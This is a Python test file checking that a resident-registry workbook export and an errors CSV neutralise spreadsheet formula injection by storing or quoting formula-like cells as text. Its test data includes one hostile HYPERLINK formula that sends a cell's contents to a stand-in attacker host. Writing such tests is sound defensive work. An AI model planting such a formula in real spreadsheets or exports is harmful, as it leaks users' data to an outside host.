"""No formula leaves gridbot in an export (issue 13): registry workbook, `rules eval` errors CSV."""

from __future__ import annotations

import csv

from openpyxl import load_workbook
from sqlalchemy import select

from handlers.cells import csv_cell
from handlers.classify._evaluate import write_errors
from handlers.registry.exporter import export_registry
from handlers.registry.importer import import_registry_file
from models import Resident, Unit
from tests.demo_db import demo_factory  # noqa: F401  (fixture)

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点我")'


def test_a_hostile_name_is_a_text_cell_in_the_registry_workbook_and_reads_back_unchanged(demo_factory, tmp_path):
    with demo_factory.begin() as session:
        unit = session.scalars(select(Unit).order_by(Unit.id)).first()
        session.add(Resident(userid="formula-resident", name=HOSTILE, phone=None, unit_id=unit.id))
    path = tmp_path / "registry.xlsx"
    with demo_factory() as session:
        export_registry(session, path)
    residents = load_workbook(path)["居民"]
    cells = [row for row in residents.iter_rows(min_row=2) if row[0].value == "formula-resident"]
    assert cells and cells[0][1].value == HOSTILE and cells[0][1].data_type == "s"
    with demo_factory.begin() as session:
        result = import_registry_file(session, path)
        assert result.counts.updated == 0
        assert session.scalars(select(Resident.name).where(Resident.userid == "formula-resident")).one() == HOSTILE


def test_every_formula_start_is_quoted_in_csv():
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert csv_cell(f"{start}1+1") == f"'{start}1+1"
    assert csv_cell("楼道灯坏了") == "楼道灯坏了" and csv_cell(3) == 3


def test_rules_eval_errors_csv_quotes_formula_cells(tmp_path):
    path = tmp_path / "errors.csv"
    write_errors(path, [{"text": "@SUM(A1:A9)", "label": "环境卫生", "predicted": "-", "outcome": "case",
                         "score": 0.5, "rules": ""}])
    with path.open(encoding="utf-8") as handle:
        row = next(csv.DictReader(handle))
    assert row["text"] == "'@SUM(A1:A9)" and row["predicted"] == "'-"
